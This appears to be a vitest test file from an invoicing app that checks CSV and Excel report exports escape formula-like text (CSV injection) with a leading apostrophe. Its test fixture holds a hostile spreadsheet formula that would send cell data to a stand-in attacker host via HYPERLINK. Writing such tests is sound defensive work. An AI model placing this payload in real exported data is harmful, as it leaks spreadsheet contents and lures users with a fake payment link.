import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { createTestApp, type Caller, type TestApp } from '../../../test/helpers';
import { expectStatus, superAdmin } from '../invoices/billing.test-support';
import { datedInvoice } from './reports.test-support';

/**
 * CSV injection (issue 23): a text cell a spreadsheet would run as a formula is exported with a
 * leading apostrophe, in CSV and Excel; amounts stay numbers (a negative one too:
 * packages/core's escapeSpreadsheetCell escapes strings only).
 */
let t: TestApp;
let admin: Caller;
const HOSTILE = '=HYPERLINK("http://evil.example/steal?d="&A1,"Pay here")';
const url = (format: string) => `/api/Reports/Export/invoices?format=${format}&begin=2024-11-01&end=2024-11-30&kind=Billing`;

beforeAll(async () => {
  t = await createTestApp();
  admin = await superAdmin(t);
  const res = await admin.request({
    method: 'POST',
    url: '/api/Company',
    payload: { name: HOSTILE, description: 'Hangar tenant', email: 'billing@example.test', phone: '7755550100', status: 'Active' },
  });
  await expectStatus(res, 201, 'hostile company');
  await datedInvoice(t, admin, res.json()._id as string, '2024-11-10', [100], '2024-11-30');
});
afterAll(async () => t?.close());

describe('report exports escape formula-like text', () => {
  it('CSV: the company name starts with an apostrophe; the amounts are numbers', async () => {
    const res = await admin.request({ method: 'GET', url: url('csv') });
    expect(res.statusCode).toBe(200);
    const line = res.body.split('\r\n').find((l) => l.includes('HYPERLINK'))!;
    expect(line).toBe(`"'=HYPERLINK(""http://evil.example/steal?d=""&A1,""Pay here"")",1,100.00,0.00,100.00,100.00`);
  });

  it('Excel: the name is text with the apostrophe, the amounts are numbers', async () => {
    const res = await admin.request({ method: 'GET', url: url('xlsx') });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const row = workbook.worksheets[0]!.getRow(2);
    expect(row.getCell(1).value).toBe(`'${HOSTILE}`);
    expect(row.getCell(3).value).toBe(100);
  });
});
